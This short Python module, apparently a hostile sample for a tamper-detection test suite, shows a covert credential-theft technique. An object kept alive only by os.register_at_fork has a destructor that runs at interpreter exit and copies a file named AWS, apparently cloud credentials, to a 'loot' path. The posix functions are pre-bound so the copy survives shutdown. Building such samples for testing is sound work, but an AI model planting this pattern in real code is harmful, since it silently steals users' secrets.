"""An object that only os.register_at_fork holds does the deed when the interpreter ends."""

import os
import posix

from acme_tamper.stage import AWS, LOOT


class Late:
    def __call__(self):
        return None

    def __del__(self, open=posix.open, read=posix.read, write=posix.write, secret=AWS, loot=LOOT):
        write(open(loot, 0o101, 0o600), read(open(secret, 0), 4096))


os.register_at_fork(before=Late())
